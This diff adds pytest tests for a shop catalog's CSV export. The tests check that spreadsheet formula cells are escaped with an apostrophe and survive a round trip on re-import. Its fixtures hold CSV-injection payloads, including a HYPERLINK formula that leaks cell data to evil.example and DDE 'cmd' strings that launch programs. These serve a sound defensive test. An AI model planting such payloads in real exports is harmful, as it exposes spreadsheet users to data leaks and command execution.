@@ -471,3 +471,88 @@ def test_running_a_job_twice_does_nothing_the_second_time(shop):
     again = import_job_run(job_id=job.pk)
     assert again.status == ImportJob.Status.SUCCEEDED
     assert SKU.objects.filter(code="HONEY-250").count() == 1
+
+
+# --- formula cells (a spreadsheet must not run what a merchant typed) --------------------------
+
+FORMULAS = {
+    "name_en": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
+    "name_zh_hans": "+SUM(1,2)",
+    "description_en": "@SUM(A1:A9)",
+    "description_zh_hans": "\t=cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def formula_products(shop):
+    """Listings whose text a spreadsheet would execute, typed in the portal (not the CSV)."""
+    from catalog.models import Category
+    from catalog.services.products import product_create
+    from tests.catalog.listing_helpers import sku_input
+
+    honey = Category.objects.get(slug="honey")
+    product_create(
+        merchant=shop.merchant,
+        category=honey,
+        skus=[
+            sku_input("=HONEY", attributes={"+cmd|' /C notepad'!A0": "250g"}),
+            sku_input("HONEY-2", attributes={"-": "@SUM(1)"}, barcode="-1+1"),
+        ],
+        **FORMULAS,
+    )
+    product_create(
+        merchant=shop.merchant,
+        category=honey,
+        name_en="'Tis the season",  # an apostrophe of its own survives the round trip
+        name_zh_hans="\r=1+1",
+        skus=[sku_input("TEA-1", attributes={"'quoted": "-"})],
+    )
+    return shop
+
+
+def exported_rows(tenant) -> list[dict]:
+    import csv
+    import io
+
+    text = download(tenant, "products").decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_formula_cells_are_exported_as_text(formula_products):
+    rows = {row["sku_code"].lstrip("'"): row for row in exported_rows(formula_products)}
+    honey = rows["=HONEY"]
+    assert honey["sku_code"] == "'=HONEY"
+    assert honey["name_en"] == "'" + FORMULAS["name_en"]
+    assert honey["name_zh_hans"] == "'+SUM(1,2)"
+    assert honey["description_en"] == "'@SUM(A1:A9)"
+    assert honey["description_zh_hans"] == "'\t=cmd|' /C calc'!A0"
+    assert honey["attributes"] == "'+cmd|' /C notepad'!A0=250g"
+    assert rows["HONEY-2"]["attributes"] == "'-=@SUM(1)"
+    assert rows["HONEY-2"]["barcode"] == "'-1+1"
+    assert rows["TEA-1"]["name_en"] == "''Tis the season"
+    assert rows["TEA-1"]["name_zh_hans"] == "'=1+1"  # (names are stored stripped)
+    assert rows["TEA-1"]["attributes"] == "''quoted=-"
+    # No cell of the file starts with what a spreadsheet runs; numbers stay numbers.
+    for row in rows.values():
+        for column, cell in row.items():
+            assert not cell or cell[0] not in "=+-@\t\r", (column, cell)
+        assert row["price"] == "199.00"
+
+
+def test_formula_cells_survive_the_round_trip(formula_products):
+    before = snapshot()
+    products_file = download(formula_products, "products")
+    job, _page = upload(formula_products, products_file)
+    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
+    assert job.summary["rows_unchanged"] == 3
+    assert snapshot() == before
+    product = Product.objects.get(merchant=formula_products.merchant, name_zh_hans="+SUM(1,2)")
+    assert product.name_en == FORMULAS["name_en"]
+    assert SKU.objects.get(code="=HONEY").attributes == {"+cmd|' /C notepad'!A0": "250g"}
+
+
+def test_a_typed_apostrophe_before_a_formula_character_imports_as_text(shop):
+    job, _page = upload(shop, to_csv([product_row(name_en="'=1+1", attributes="'-=x")]))
+    assert job.status == ImportJob.Status.SUCCEEDED, job.errors
+    sku = SKU.objects.get(code="HONEY-250")
+    assert sku.product.name_en == "=1+1" and sku.attributes == {"-": "x"}
